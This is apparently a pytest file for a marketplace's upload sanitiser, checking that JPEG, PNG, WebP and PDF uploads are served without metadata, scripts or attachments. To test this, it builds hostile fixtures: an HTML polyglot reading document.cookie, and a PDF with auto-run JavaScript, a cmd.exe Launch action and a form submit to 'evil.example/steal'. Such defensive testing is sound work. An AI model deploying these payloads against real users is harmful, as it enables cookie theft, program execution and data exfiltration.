"""What an uploaded file may still carry once kept: nothing but its pixels or pages. Every check reads the
bytes the site serves back (walking a JPEG's segments, a PNG's or WebP's chunks, a PDF's objects), and the
headers it serves them with."""
from __future__ import annotations

import io
import struct
import zlib

import pikepdf
import pytest
from PIL import Image, ImageCms, ImageOps, PngImagePlugin
from pikepdf import Array, Dictionary, Name, String
from sqlalchemy import func, select

from marketplace.core.extensions import db
from marketplace.files.models import StoredFile
from tests.families.test_files import GPS_IFD
from tests.factories import HouseholdFactory

ADDRESS = "Алматы, ул. Абая 10, кв. 5"
ADDRESS_BYTES = ADDRESS.encode()
POLYGLOT = b"<html><script>alert(document.cookie)</script></html>"
SRGB_ICC = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
XMP = ('<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
       f'<rdf:Description>{ADDRESS}</rdf:Description></rdf:RDF></x:xmpmeta>').encode()


@pytest.fixture(autouse=True)
def uploads(app, tmp_path, monkeypatch):
    monkeypatch.setitem(app.config, "UPLOAD_FOLDER", str(tmp_path / "uploads"))


@pytest.fixture
def family(db_session, office, client, login_as):
    household = HouseholdFactory(office=office)
    login_as(household.user)
    return household


def upload_and_fetch(client, name: str, data: bytes):
    """Upload as the family, then GET the file as it is served."""
    response = client.post("/family/evidence", data={"files": [(io.BytesIO(data), name)]},
                           content_type="multipart/form-data")
    assert response.status_code == 302, response.get_data(as_text=True)[:1500]
    stored = db.session.scalars(select(StoredFile)).one()
    served = client.get(f"/files/{stored.id}")
    assert served.status_code == 200
    return served


def assert_sandboxed(response) -> None:
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    directives = {part.strip().split(" ")[0] for part in response.headers["Content-Security-Policy"].split(";")}
    assert "sandbox" in directives and "default-src" in directives
    assert "'none'" in response.headers["Content-Security-Policy"].split("default-src", 1)[1].split(";")[0]


# --- JPEG ------------------------------------------------------------------------------------------------

def segment(marker: int, payload: bytes) -> bytes:
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(payload) + 2) + payload


def jpeg_segments(data: bytes) -> list[tuple[int, bytes]]:
    """(marker, payload) of every segment, skipping the entropy-coded data after each start of scan."""
    assert data[:2] == b"\xff\xd8"
    found, i = [], 2
    while i < len(data):
        assert data[i] == 0xFF, f"no marker at {i}"
        marker = data[i + 1]
        i += 2
        if marker == 0xFF:  # a fill byte
            i -= 1
            continue
        if marker == 0xD9:
            found.append((marker, b""))
            break
        (length,) = struct.unpack(">H", data[i:i + 2])
        found.append((marker, data[i + 2:i + length]))
        i += length
        if marker == 0xDA:
            while not (data[i] == 0xFF and data[i + 1] not in (0x00, *range(0xD0, 0xD8))):
                i += 1
    return found


def phone_photo() -> tuple[bytes, Image.Image]:
    """A photo as a phone and an editor leave it: taken sideways (EXIF orientation 6) with GPS, a comment
    with a home address and an HTML polyglot, XMP, IPTC (Photoshop APP13) and a colour profile. Returns the
    file and how it should look."""
    picture = Image.new("RGB", (40, 30), (200, 10, 10))
    picture.paste((10, 10, 200), (0, 0, 20, 30))
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    exif[0x0112] = 6
    exif[GPS_IFD] = {1: "N", 2: (43.0, 15.0, 30.0), 3: "E", 4: (76.0, 53.0, 10.0)}
    out = io.BytesIO()
    picture.save(out, "JPEG", exif=exif, icc_profile=SRGB_ICC, comment=ADDRESS_BYTES + POLYGLOT)
    data = out.getvalue()
    iptc = b"Photoshop 3.0\x008BIM\x04\x04\x00\x00" + struct.pack(">I", len(ADDRESS_BYTES) + 5) + (
        b"\x1c\x02\x78" + struct.pack(">H", len(ADDRESS_BYTES)) + ADDRESS_BYTES)
    data = data[:2] + segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + XMP) + segment(0xED, iptc) + data[2:]
    markers = {marker for marker, _ in jpeg_segments(data)}
    assert {0xE1, 0xE2, 0xED, 0xFE} <= markers  # the test photo really carries all of it
    return data, ImageOps.exif_transpose(Image.open(io.BytesIO(data)))


def test_a_jpeg_is_served_upright_with_its_pixels_and_no_other_segment(client, family):
    original, upright = phone_photo()

    served = upload_and_fetch(client, "photo.jpg", original)

    data = served.data
    segments = jpeg_segments(data)
    markers = {marker for marker, _ in segments}
    # Frame, tables, scan and end; of the application segments only JFIF's APP0.
    assert markers <= {0xE0, 0xDB, 0xC0, 0xC2, 0xC4, 0xDD, 0xDA, 0xD9}, sorted(hex(m) for m in markers)
    assert all(payload.startswith(b"JFIF\x00") for marker, payload in segments if marker == 0xE0)
    for leak in (ADDRESS_BYTES, b"<script", b"PhoneMaker", b"Exif", b"xap/1.0", b"Photoshop", b"ICC_PROFILE"):
        assert leak not in data
    kept = Image.open(io.BytesIO(data))
    assert kept.size == upright.size == (30, 40)
    assert not kept.getexif() and "icc_profile" not in kept.info and "comment" not in kept.info
    assert kept.getpixel((15, 2)) == pytest.approx(upright.getpixel((15, 2)), abs=12)
    assert kept.getpixel((15, 37)) == pytest.approx(upright.getpixel((15, 37)), abs=12)
    assert served.headers["Content-Disposition"].startswith("inline;")
    assert_sandboxed(served)


# --- PNG and WebP ----------------------------------------------------------------------------------------

def png_chunks(data: bytes) -> list[bytes]:
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    found, i = [], 8
    while i < len(data):
        (length,) = struct.unpack(">I", data[i:i + 4])
        found.append(data[i + 4:i + 8])
        i += 12 + length
    return found


def png_chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def test_a_png_keeps_no_text_exif_time_or_profile_chunk(client, family):
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "Almaty, Abay st. 10, flat 5")  # Latin-1 text, or Pillow writes iTXt
    info.add_text("Author", "Almaty, Abay st. 10, flat 5", zip=True)
    info.add_itxt("Description", ADDRESS + POLYGLOT.decode())
    exif = Image.Exif()
    exif[GPS_IFD] = {1: "N", 2: (43.0, 15.0, 30.0)}
    out = io.BytesIO()
    Image.new("RGBA", (8, 8), (10, 120, 200, 128)).save(out, "PNG", pnginfo=info, exif=exif, icc_profile=SRGB_ICC)
    original = out.getvalue()
    original = original[:-12] + png_chunk(b"tIME", b"\x07\xe9\x01\x02\x03\x04\x05") + original[-12:]
    assert {b"tEXt", b"zTXt", b"iTXt", b"eXIf", b"iCCP", b"tIME"} <= set(png_chunks(original))

    served = upload_and_fetch(client, "certificate.png", original)

    assert set(png_chunks(served.data)) <= {b"IHDR", b"PLTE", b"tRNS", b"IDAT", b"IEND"}
    for leak in (ADDRESS_BYTES, b"Abay", b"<script"):
        assert leak not in served.data
    assert Image.open(io.BytesIO(served.data)).getpixel((0, 0)) == (10, 120, 200, 128)
    assert_sandboxed(served)


def webp_chunks(data: bytes) -> list[bytes]:
    assert data[:4] == b"RIFF" and data[8:12] == b"WEBP"
    found, i = [], 12
    while i < len(data):
        kind, (length,) = data[i:i + 4], struct.unpack("<I", data[i + 4:i + 8])
        found.append(kind)
        i += 8 + length + (length & 1)
    return found


def test_a_webp_keeps_no_exif_xmp_or_profile_chunk(client, family):
    exif = Image.Exif()
    exif[GPS_IFD] = {1: "N", 2: (43.0, 15.0, 30.0)}
    out = io.BytesIO()
    Image.new("RGB", (16, 16), (10, 120, 200)).save(out, "WEBP", exif=exif, xmp=XMP, icc_profile=SRGB_ICC)
    assert {b"EXIF", b"XMP ", b"ICCP"} <= set(webp_chunks(out.getvalue()))

    served = upload_and_fetch(client, "photo.webp", out.getvalue())

    assert set(webp_chunks(served.data)) <= {b"VP8 ", b"VP8L", b"VP8X", b"ALPH"}
    assert ADDRESS_BYTES not in served.data
    assert_sandboxed(served)


# --- PDF -------------------------------------------------------------------------------------------------

SECRET = "ул. Абая 10, кв. 5 — ключ под ковриком".encode()


def risky_pdf() -> bytes:
    """A one-page PDF that runs JavaScript on opening and on showing its page, names another script, attaches
    a file twice (in the name tree and as an annotation), launches a program, posts a form, links to
    javascript:, carries an XFA form and its author's name; and one honest web link."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    page = pdf.pages[0]
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    page.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("app.alert(2)")))
    attachment = pikepdf.AttachedFileSpec(pdf, SECRET, mime_type="text/plain")
    pdf.attachments["address.txt"] = attachment
    pdf.Root.Names.JavaScript = Dictionary(Names=Array([
        String("run"), pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert(3)")))]))

    def link(x: int, **action) -> Dictionary:
        return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[x, 0, x + 20, 20],
                                            A=Dictionary(**action)))

    page.Annots = Array([
        link(0, S=Name.Launch, F=String("cmd.exe")),
        link(20, S=Name.URI, URI=String("javascript:app.alert(4)")),
        link(40, S=Name.SubmitForm, F=String("http://evil.example/steal")),
        link(60, S=Name.ImportData, F=String("data.fdf")),
        link(80, S=Name.URI, URI=String("https://egov.kz/"), Next=Dictionary(S=Name.JavaScript, JS=String("x"))),
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[100, 0, 120, 20],
                                     FS=attachment.obj)),
    ])
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp><script>x</script></xdp:xdp>"))
    pdf.docinfo["/Author"] = "Айгерим Сейткали"
    out = io.BytesIO()
    pdf.save(out)
    data = out.getvalue()
    for mark in (b"/OpenAction", b"/JavaScript", b"/EmbeddedFile", b"/Launch", b"/XFA"):
        assert mark in data  # the test file really carries all of it
    return data


def all_keys_and_names(pdf: pikepdf.Pdf) -> set[str]:
    found: set[str] = set()
    pending = list(pdf.objects) + [pdf.trailer]
    while pending:
        obj = pending.pop()
        if isinstance(obj, (Dictionary, pikepdf.Stream)):
            found.update(obj.keys())
            pending.extend(value for value in obj.values() if not getattr(value, "is_indirect", True))
            found.update(str(value) for value in obj.values() if isinstance(value, Name))
        elif isinstance(obj, Array):
            pending.extend(value for value in obj if not getattr(value, "is_indirect", True))
    return found


def test_a_pdf_is_rewritten_without_scripts_actions_or_attachments_and_is_downloaded(client, family):
    served = upload_and_fetch(client, "справка.pdf", risky_pdf())

    data = served.data
    for mark in (b"/JavaScript", b"/JS", b"/OpenAction", b"/AA", b"/EmbeddedFile", b"/EF", b"/FileAttachment",
                 b"/Launch", b"/SubmitForm", b"/ImportData", b"/XFA", b"javascript:", b"app.alert", SECRET,
                 b"ObjStm"):
        assert mark not in data, mark
    with pikepdf.open(io.BytesIO(data)) as kept:
        assert len(kept.pages) == 1
        keys = all_keys_and_names(kept)
        assert not keys & {"/JavaScript", "/JS", "/OpenAction", "/AA", "/EmbeddedFiles", "/EmbeddedFile", "/EF",
                           "/Launch", "/SubmitForm", "/ImportData", "/XFA", "/Author", "/FileAttachment"}
        [web_link] = [a for a in kept.pages[0].Annots if "/A" in a]
        assert str(web_link.A.URI) == "https://egov.kz/" and "/Next" not in web_link.A
    assert served.mimetype == "application/pdf"
    assert served.headers["Content-Disposition"].startswith("attachment;")
    assert served.headers["Content-Disposition"].endswith(".pdf")
    assert_sandboxed(served)


def stored_count() -> int:
    return db.session.scalar(select(func.count()).select_from(StoredFile))


def encrypted_pdf(user_password: str) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(user=user_password, owner="office"))
    return out.getvalue()


@pytest.mark.parametrize("data, locale, message", [
    (b"%PDF-1.7\n" + b"not a pdf at all " * 20, "en", "This PDF is damaged and cannot be opened."),
    (b"%PDF-1.7\n" + b"not a pdf at all " * 20, "ru", "Этот PDF повреждён, его не удаётся открыть."),
    (b"%PDF-1.7\n" + b"not a pdf at all " * 20, "kk", "Бұл PDF бүлінген, оны ашу мүмкін емес."),
    (encrypted_pdf("secret"), "en", "This PDF is protected by a password."),
    (encrypted_pdf("secret"), "ru", "Этот PDF защищён паролем."),
    (encrypted_pdf("secret"), "kk", "Бұл PDF құпиясөзбен қорғалған."),
])
def test_a_pdf_that_cannot_be_read_is_refused_in_the_users_language_and_nothing_is_kept(
        client, family, tmp_path, data, locale, message):
    family.user.locale = locale
    db.session.commit()

    response = client.post("/family/evidence", data={"files": [(io.BytesIO(data), "справка.pdf")]},
                           content_type="multipart/form-data")

    assert response.status_code == 200
    assert message in response.get_data(as_text=True)
    assert stored_count() == 0
    folder = tmp_path / "uploads"
    assert not folder.exists() or not any(folder.iterdir())


def test_a_pdf_locked_only_against_editing_is_kept_without_its_encryption(client, family):
    served = upload_and_fetch(client, "справка.pdf", encrypted_pdf(""))

    assert b"/Encrypt" not in served.data
    with pikepdf.open(io.BytesIO(served.data)) as kept:
        assert not kept.is_encrypted and len(kept.pages) == 1
